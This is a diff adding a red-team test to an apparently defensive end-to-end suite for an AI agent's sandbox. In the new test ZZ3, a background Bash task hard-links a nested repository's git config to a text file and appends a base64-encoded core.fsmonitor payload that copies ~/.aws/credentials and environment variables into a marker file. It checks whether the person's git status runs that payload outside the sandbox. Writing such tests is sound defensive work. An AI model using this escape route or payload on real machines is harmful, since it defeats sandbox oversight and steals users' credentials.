@@ -27,6 +27,10 @@ const pick = (id: string, o: { skip?: string }) =>
 const ROWS = {
   ZZ1: pick('ZZ1', hole('a worker crash mid-call skips the sequencer screen: a rebase todo’s exec line stays')),
   ZZ1b: pick('ZZ1b', hole('a deploy (SIGTERM) mid-call: the same')),
+  ZZ3: pick(
+    'ZZ3',
+    hole('a background task writes a nested repository’s config through a hard link: no event, checked when it ends'),
+  ),
   ZZ2: pick('ZZ2', hole('a background task’s checks run when it ends: its rebase todo’s exec line stays meanwhile')),
 };
 const { allSkipped, setUp } = redTeamEndToEnd(ROWS, 'zz');
@@ -134,6 +138,50 @@ test(
               t.diagnostic(`session: ${(await s.cli(['attach', id])).stdout.replace(/\s+/g, ' ').slice(0, 600)}`);
             const out = personGitAt(P, fx.home, 'rebase', '--continue');
             t.diagnostic(`the person's git rebase --continue: ${out.trim().slice(0, 300)}`);
+            const seen = fs.existsSync(mark) ? fs.readFileSync(mark, 'utf8') : '';
+            assert.deepEqual(
+              { ranOnHost: fs.existsSync(mark), bait: baitInText(seen) },
+              { ranOnHost: false, bait: [] },
+            );
+          } finally {
+            await s.cli(['cancel', id]).catch(() => undefined);
+          }
+        },
+      );
+
+      await t.test(
+        'ZZ3 (dontAsk, no rule): a BACKGROUND Bash task makes `sub` a repository, links `sub/.git/config` to `sub/notes.txt` once the guard has cleaned it, appends `core.fsmonitor = <payload>` through notes.txt, and goes on running; the person’s editor runs `git status` in the nested repository — nothing runs outside the sandbox',
+        ROWS.ZZ3,
+        async () => {
+          const P = gitProject(fx, 'zz3');
+          const mark = path.join(fx.marks, 'zz3.host');
+          const payload = `sh -c 'cat ~/.aws/credentials > ${mark}; env >> ${mark}; cat' --`;
+          const cfg = Buffer.from(`[core]\n\tfsmonitor = "${payload}"\n`).toString('base64');
+          const command = [
+            'mkdir -p sub && cd sub && git init -q . && echo hi > a.txt && cd ..',
+            'sleep 2',
+            'ln sub/.git/config sub/notes.txt',
+            `echo ${cfg} | base64 -d >> sub/notes.txt`,
+            'echo planted > planted.txt',
+            `sleep ${control ? 1 : 90}`,
+          ].join('\n');
+          s.scripts.set('zz3-plant', [bash('zz3_plant', command, { run_in_background: true })]);
+          const id = await s.detach(`zz3-${Date.now()}`, P, 'dontAsk', 'zz3-plant');
+          try {
+            await waitFor(
+              'the linked config',
+              async () => fs.existsSync(path.join(P, 'planted.txt')) || undefined,
+              60_000,
+            );
+            await new Promise((r) => setTimeout(r, 1500));
+            if (control)
+              t.diagnostic(`session: ${(await s.cli(['attach', id])).stdout.replace(/\s+/g, ' ').slice(0, 600)}`);
+            const cfgNow = path.join(P, 'sub', '.git', 'config');
+            t.diagnostic(
+              `sub/.git/config now: ${fs.existsSync(cfgNow) ? fs.readFileSync(cfgNow, 'utf8').replace(/\s+/g, ' ') : '(none)'}`,
+            );
+            const out = personGitAt(path.join(P, 'sub'), fx.home, 'status', '--short');
+            t.diagnostic(`the person's editor's git status in sub: ${out.trim().slice(0, 300)}`);
             const seen = fs.existsSync(mark) ? fs.readFileSync(mark, 'utf8') : '';
             assert.deepEqual(
               { ranOnHost: fs.existsSync(mark), bait: baitInText(seen) },
